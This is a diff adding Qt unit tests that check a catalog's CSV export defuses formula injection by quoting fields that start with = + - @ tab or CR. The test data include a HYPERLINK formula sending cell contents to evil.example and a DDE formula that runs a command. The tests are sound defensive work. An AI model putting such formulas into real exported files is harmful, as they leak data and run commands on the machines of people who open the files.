@@ -4,11 +4,13 @@
 #include "io/catalog/CatalogJson.h"
 #include "io/catalog/CatalogTableParser.h"
 #include "io/catalog/TableSource.h"
+#include "io/csv/CsvReader.h"
 #include "io/export/CatalogCsvWriter.h"
 #include "io/export/CatalogWriter.h"
 #include "io/export/ExportValues.h"
 
 #include <QFile>
+#include <QRegularExpression>
 #include <QStringDecoder>
 #include <QTemporaryDir>
 #include <QTest>
@@ -25,6 +27,9 @@ class TestCatalogExport : public QObject
 private Q_SLOTS:
     void roundTrip_data();
     void roundTrip();
+    void hostileValuesRoundTrip_data();
+    void hostileValuesRoundTrip();
+    void csvFieldsStartWithNoFormulaCharacter();
     void emptyCatalog_data();
     void emptyCatalog();
     void csvUtf8WithBomAndQuoting();
@@ -137,6 +142,50 @@ void TestCatalogExport::roundTrip()
     const QString path = write(format, sample);
     QVERIFY(!path.isEmpty());
     compare(read(path, format), sample);
+}
+
+void TestCatalogExport::hostileValuesRoundTrip_data()
+{
+    roundTrip_data();
+}
+
+// Values that start like formulas, or with the quote the CSV export adds, come back exactly.
+void TestCatalogExport::hostileValuesRoundTrip()
+{
+    QFETCH(CatalogFileFormat, format);
+    const QList<ResourceDraft> sample = test::hostileSample();
+    const QString path = write(format, sample);
+    QVERIFY(!path.isEmpty());
+    compare(read(path, format), sample);
+}
+
+// In the CSV file itself, no field starts with = + - @ tab or CR (OWASP CSV injection), except a
+// plain number; the hostile values are there with one quote in front.
+void TestCatalogExport::csvFieldsStartWithNoFormulaCharacter()
+{
+    const QString path = write(CatalogFileFormat::Csv, test::hostileSample(true) + test::exportSample());
+    QVERIFY(!path.isEmpty());
+    static const QRegularExpression number(QStringLiteral("^[+-]?[0-9]+(\\.[0-9]+)?$"));
+    QStringList fields;
+    auto read = CsvReader().readFile(path, [&](const CsvRow& row) {
+        fields << row.cells;
+        return true;
+    });
+    QVERIFY2(read, read ? "" : qPrintable(read.error().message));
+    QVERIFY(fields.size() > 100);
+    for (const QString& field : std::as_const(fields)) {
+        const bool trigger = !field.isEmpty() && QStringLiteral("=+-@\t\r").contains(field.front());
+        QVERIFY2(!trigger || number.match(field).hasMatch(), qPrintable(field));
+    }
+    QVERIFY(fields.contains(QStringLiteral("'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")")));
+    QVERIFY(fields.contains(QStringLiteral("'=cmd|' /C calc'!A0")));
+    QVERIFY(fields.contains(QStringLiteral("''=已带引号的值")));
+    QVERIFY(fields.contains(QStringLiteral("'''+两个引号")));
+    QVERIFY(fields.contains(QStringLiteral("''-5")));
+    QVERIFY(fields.contains(QStringLiteral("-5")));   // a plain number stays a number
+    QVERIFY(fields.contains(QStringLiteral("'abc"))); // no trigger after the quote: as it is
+    QVERIFY(fields.contains(QStringLiteral("'\t制表符开头")));
+    QVERIFY(fields.contains(QStringLiteral("'\r回车开头")));
 }
 
 void TestCatalogExport::emptyCatalog_data()
